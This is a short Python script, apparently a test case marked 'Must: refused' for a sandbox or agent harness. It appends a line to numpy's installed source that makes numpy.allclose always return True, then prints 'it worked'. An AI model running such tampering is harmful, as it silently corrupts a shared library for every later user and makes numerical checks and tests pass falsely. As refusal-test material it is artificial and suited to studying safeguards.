"""Change an installed package, for whoever imports it next.

Must: refused
"""

import numpy as np

open(np.__file__, "a").write("\nallclose = lambda *_, **__: True\n")
print("it worked")
